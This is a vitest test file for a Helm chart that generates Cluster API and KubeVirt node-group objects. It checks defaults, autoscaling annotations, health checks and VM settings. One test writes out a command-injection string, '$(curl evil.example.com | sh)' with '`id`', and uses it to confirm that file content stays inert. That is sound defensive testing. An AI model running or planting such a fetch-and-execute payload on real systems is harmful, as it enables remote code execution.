// Node groups: the default group and how to remove it, nodeGroupDefaults overlay semantics,
// autoscaler ownership of replicas, per-group health checks.
import { describe, expect, it } from 'vitest';
import type { ManifestDoc } from '../../generator/src/manifest/parse.ts';
import { HELM_MAJORS, objectsOfKind, renderChart } from '../support/render.ts';

// rendered objects are untyped YAML; tests read them freely
type Obj = Record<string, any>;
const ofKind = (docs: ManifestDoc[], kind: string) => objectsOfKind(docs, kind) as Obj[];

const NODE_KINDS = ['KubevirtMachineTemplate', 'KubeadmConfigTemplate', 'MachineDeployment', 'MachineHealthCheck'];

describe.each(HELM_MAJORS)('node groups under Helm %i', (major) => {
  it('creates one default group "workers" when no group is given', async () => {
    const docs = await renderChart('kubernetes', { major });
    for (const kind of NODE_KINDS) expect(ofKind(docs, kind).map((o) => o.metadata.name.replace(/-[0-9a-f]{8}$/, ''))).toEqual(['tenant-a-workers']);
  });

  it.each([
    ['set to null', { nodeGroups: { workers: null } }],
    ['disabled', { nodeGroups: { workers: { enabled: false } } }],
    ['disabled for all groups through the defaults', { nodeGroupDefaults: { enabled: false } }],
  ])('renders zero groups when the default group is %s', async (_how, values) => {
    const docs = await renderChart('kubernetes', { major, values });
    for (const kind of NODE_KINDS) expect(ofKind(docs, kind)).toHaveLength(0);
    expect(ofKind(docs, 'Cluster')).toHaveLength(1);
  });

  it('lets a group override a default with false and 0 (not only with non-empty values)', async () => {
    const docs = await renderChart('kubernetes', {
      major,
      values: {
        nodeGroupDefaults: { autoscaling: { enabled: true, minSize: 1, maxSize: 4 } },
        nodeGroups: { workers: { autoscaling: { enabled: false }, replicas: 0 } },
      },
    });
    const md = ofKind(docs, 'MachineDeployment')[0]!;
    expect(md.spec.replicas).toBe(0);
    expect(md.metadata.annotations).toBeUndefined();
  });

  it('merges maps from the defaults with the group\'s own entries', async () => {
    const docs = await renderChart('kubernetes', {
      major,
      values: { nodeGroupDefaults: { labels: { 'example.com/a': '1' } }, nodeGroups: { workers: { labels: { 'example.com/b': '2' } } } },
    });
    const args = ofKind(docs, 'KubeadmConfigTemplate')[0]!.spec.template.spec.joinConfiguration.nodeRegistration.kubeletExtraArgs;
    expect(args).toContainEqual({ name: 'node-labels', value: 'example.com/a=1,example.com/b=2' });
  });

  it('leaves replicas to the autoscaler and carries its min/max and the cluster-name label', async () => {
    const docs = await renderChart('kubernetes', { major, values: { nodeGroups: { workers: { autoscaling: { enabled: true, minSize: 2, maxSize: 7 } } } } });
    const md = ofKind(docs, 'MachineDeployment')[0]!;
    expect(md.spec).not.toHaveProperty('replicas');
    expect(md.metadata.labels['cluster.x-k8s.io/cluster-name']).toBe('tenant-a');
    expect(md.metadata.annotations['cluster.x-k8s.io/cluster-api-autoscaler-node-group-min-size']).toBe('2');
    expect(md.metadata.annotations['cluster.x-k8s.io/cluster-api-autoscaler-node-group-max-size']).toBe('7');
    expect(md.metadata.annotations['capacity.cluster-autoscaler.kubernetes.io/cpu']).toBe('2');
    expect(md.metadata.annotations['capacity.cluster-autoscaler.kubernetes.io/memory']).toBe('4Gi');
  });

  it('selects exactly its own Machines in the MachineHealthCheck and tolerates slow VM boots', async () => {
    const docs = await renderChart('kubernetes', { major, values: { nodeGroups: { a: {}, b: { healthCheck: { maxUnhealthy: '2' } } } } });
    const mds = ofKind(docs, 'MachineDeployment');
    const mhcs = ofKind(docs, 'MachineHealthCheck');
    for (const mhc of mhcs) {
      const md = mds.find((m) => m.metadata.name === mhc.metadata.name)!;
      expect(mhc.spec.selector.matchLabels).toEqual(md.spec.selector.matchLabels);
      expect(md.spec.template.metadata.labels).toMatchObject(md.spec.selector.matchLabels);
      expect(mhc.spec.checks.nodeStartupTimeoutSeconds).toBeGreaterThanOrEqual(600);
    }
    expect(mhcs.find((m) => m.metadata.name === 'tenant-a-b')!.spec.remediation.triggerIf.unhealthyLessThanOrEqualTo).toBe(2);
  });

  it('boots the default group from a container disk on the pod network, draining before eviction', async () => {
    const docs = await renderChart('kubernetes', { major });
    const vm = ofKind(docs, 'KubevirtMachineTemplate')[0]!.spec.template.spec.virtualMachineTemplate.spec;
    expect(vm.runStrategy).toBe('Always');
    expect(vm.template.spec.volumes[0]).toHaveProperty('containerDisk');
    expect(vm.template.spec.networks).toEqual([{ name: 'default', pod: {} }]);
    // bridge, KubeVirt's default: the guest owns the pod IP (masquerade breaks hairpin to the node's own IP, kubevirt/kubevirt#10772)
    expect(vm.template.spec.domain.devices.interfaces).toEqual([{ name: 'default', bridge: {} }]);
    expect(vm.template.spec.evictionStrategy).toBe('External');
  });

  it('keeps file content that looks like cloud-init or shell as inert file data', async () => {
    const content = 'x: 1\nruncmd: [reboot]\n$(curl evil.example.com | sh)\n`id`; echo "quoted" \'single\'\n';
    const docs = await renderChart('kubernetes', { major, values: { nodeGroups: { workers: { files: [{ path: '/etc/app.conf', content }] } } } });
    const spec = ofKind(docs, 'KubeadmConfigTemplate')[0]!.spec.template.spec;
    expect(spec.files).toEqual([{ path: '/etc/app.conf', content, permissions: '0644', owner: 'root:root' }]);
    expect(spec).not.toHaveProperty('runcmd');
    expect(spec).not.toHaveProperty('preKubeadmCommands');
  });

  it('creates the VMs in the release namespace, spread over management hosts per group', async () => {
    const docs = await renderChart('kubernetes', { major, release: 'blue', namespace: 'team-blue', values: { nodeGroups: { a: {}, b: {} } } });
    for (const kmt of ofKind(docs, 'KubevirtMachineTemplate')) {
      const vmt = kmt.spec.template.spec.virtualMachineTemplate;
      const group = kmt.metadata.labels['cluster.x-k8s.io/deployment-name'];
      expect(vmt.metadata.namespace).toBe('team-blue');
      expect(vmt.spec.template.metadata.labels).toEqual({ 'cluster.x-k8s.io/cluster-name': 'blue', 'cluster.x-k8s.io/deployment-name': group });
      const term = vmt.spec.template.spec.affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].podAffinityTerm;
      expect(term.labelSelector.matchLabels).toEqual(vmt.spec.template.metadata.labels);
    }
  });
});
